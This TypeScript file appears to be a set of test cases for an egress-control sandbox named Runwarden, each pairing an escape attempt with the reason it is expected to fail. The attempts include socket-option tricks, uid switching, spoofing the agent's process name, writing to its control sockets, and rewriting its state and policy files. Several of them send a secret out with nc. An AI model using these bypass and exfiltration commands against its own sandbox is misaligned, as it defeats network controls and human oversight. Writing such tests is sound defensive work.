import type { Row } from '../case.ts'
import { python } from './script.ts'

const by = 'connect: `EPERM`'
const option = (
  level: string,
  name: number,
  value: string,
  text: string,
  id: string,
  cannot?: string,
) => ({
  id,
  technique: text,
  attempt: python(`
s = made()
try: s.setsockopt(${level}, ${name}, ${value})
except OSError as error: print(error)
s.connect(WHERE4)
s.sendall(DATA)`),
  by,
  ...(cannot === undefined ? {} : { cannot, twin: python('tcp(WHERE4)') }),
})

/**
 * Every UDP and TCP port that something listens at, from the kernel's own table; without those of row 17's
 * accomplices (27000 and so on), which pass on whatever they get.
 */
const ports = (table: string): string =>
  `[port for line in list(open('/proc/net/${table}'))[1:] for port in [int(line.split()[1].split(':')[1], 16)] if port // 1000 != 27]`

export const pretending: Row = {
  row: 23,
  title: 'Pretending to be the agent',
  cases: [
    option('socket.SOL_SOCKET', 36, '0x1337', 'firewall mark (SO_MARK)', 'so-mark'),
    option(
      'socket.SOL_SOCKET',
      25,
      "b'to-internet'",
      'bound to the uplink (SO_BINDTODEVICE)',
      'so-bindtodevice',
    ),
    option('socket.SOL_SOCKET', 12, '6', 'priority (SO_PRIORITY)', 'so-priority'),
    option('socket.IPPROTO_IP', 15, '1', 'freely bound address (IP_FREEBIND)', 'ip-freebind'),
    option('socket.IPPROTO_IP', 19, '1', 'transparent proxy (IP_TRANSPARENT)', 'ip-transparent'),
    option(
      'socket.SOL_SOCKET',
      5,
      '1',
      'without routing (SO_DONTROUTE)',
      'so-dontroute',
      'there is no neighbour with that address',
    ),
    option(
      'socket.IPPROTO_IP',
      50,
      "struct.pack('!I', socket.if_nametoindex('to-internet'))",
      'interface chosen (IP_UNICAST_IF)',
      'ip-unicast-if',
    ),
    {
      id: 'uid-of-agent',
      technique: 'every uid that root can take on, the agent’s among them',
      as: ['root'],
      attempt: `for uid in 0 1 101 998 65534; do setpriv --reuid=$uid --clear-groups nc -N -w 2 $D4 8080 <<<"$T" && exit 0; done; exit 9`,
      twin: python('tcp(WHERE4)'),
      by: 'connect: no rule is about a uid',
    },
    {
      id: 'name-of-agent',
      technique: 'process that has the name of the agent (prctl, argv[0])',
      attempt: `bash -c 'exec -a runwarden nc -N -w 3 $D4 8080' <<<"$T"`,
      by,
    },
    {
      id: 'proxy-port-udp',
      technique: 'query for a denied name straight to the agent’s UDP port',
      attempt: python(`
answered = 0
for port in ${ports('udp')}:
    for to in ('127.0.0.1', '192.0.2.2'):
        s = made(kind=socket.SOCK_DGRAM)
        s.settimeout(0.05)
        try:
            s.sendto(query(HOST), (to, port))
            answered += s.recv(512)[3] & 15 != 5
        except OSError: pass
raise SystemExit(0 if answered else 9)`),
      twin: python('ask(query(HOST))'),
      cannot: 'without Runwarden there is no such port',
      by: 'connect: the proxy’s port is refused, but by way of port 53',
    },
    {
      id: 'proxy-port-tcp',
      technique: 'query for a denied name straight to the agent’s TCP port',
      attempt: python(`
answered = 0
for port in ${ports('tcp')}:
    try:
        s = socket.create_connection(('127.0.0.1', port), 0.2)
        m = query(HOST)
        s.settimeout(0.2)
        s.sendall(struct.pack('!H', len(m)) + m)
        answered += len(s.recv(512)) > 12
    except OSError: pass
raise SystemExit(0 if answered else 9)`),
      twin: python('ask(query(HOST))'),
      cannot: 'without Runwarden there is no such port',
      by: 'connect: the proxy’s port is refused, but by way of port 53',
    },
    {
      id: 'proxy-port-taken',
      technique: 'binding the agent’s ports beside it (SO_REUSEADDR, SO_REUSEPORT)',
      attempt: python(`
taken = 0
for port in ${ports('udp')}:
    s = made(kind=socket.SOCK_DGRAM)
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): s.setsockopt(socket.SOL_SOCKET, option, 1)
    try:
        s.bind(('127.0.0.1', port))
        taken += 1
    except OSError: pass
tcp((D4, 443 if T[2] == 'a' else PORT))`),
      by,
    },
    {
      id: 'control-socket',
      technique: 'unix sockets of an agent below /run, spoken to',
      attempt: python(`
spoken = 0
for line in open('/proc/net/unix'):
    path = line.split()[7] if len(line.split()) > 7 else ''
    if 'runwarden' not in path: continue
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(0.5)
    try:
        s.connect(path)
        s.sendall(b'{"allow":"' + D4.encode() + b':8080"}\\n')
        spoken += 1
    except OSError as error: print(error)
tcp((D4, 443 if T[2] == 'a' else PORT))`),
      by,
    },
    {
      id: 'agent-state-written',
      technique: 'files of the run’s state written by the job',
      as: ['user'],
      attempt: `find /run/runwarden -writable -type f 2>/dev/null | while read -r file; do echo allow >"$file"; done; echo "$T" | nc -N -w 3 $D4 8080`,
      by: 'the state is root’s; ' + by,
    },
    {
      id: 'policy-file-written',
      technique: 'policy file changed while the job runs',
      attempt: `sed -i 's/^allow:/allow:\\n  - 11.18.0.0\\/16:8080/' $PROGRAMS/policy.yml; echo "$T" | nc -N -w 3 $D4 8080`,
      by: 'the policy is read once; ' + by,
    },
  ],
}
